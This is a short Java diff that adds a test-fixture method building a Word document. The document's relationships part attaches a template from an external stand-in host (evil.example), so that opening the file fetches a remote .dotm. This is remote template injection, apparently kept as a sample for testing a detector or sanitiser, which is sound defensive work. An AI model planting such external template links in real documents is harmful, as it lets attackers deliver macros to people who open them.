@@ -135,6 +135,17 @@ public final class SampleDocuments {
         return zip(docxParts(paragraphs));
     }
 
+    /// It has its template elsewhere: who opens it fetches that.
+    public static byte[] docxWithTemplate(String... paragraphs) {
+        Map<String, byte[]> parts = docxParts(paragraphs);
+        parts.put(
+                "word/_rels/document.xml.rels",
+                relationships("<Relationship Id=\"r1\" Type=\""
+                        + RELATION
+                        + "attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>"));
+        return zip(parts);
+    }
+
     static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
 
     static byte[] relationships(String each) {
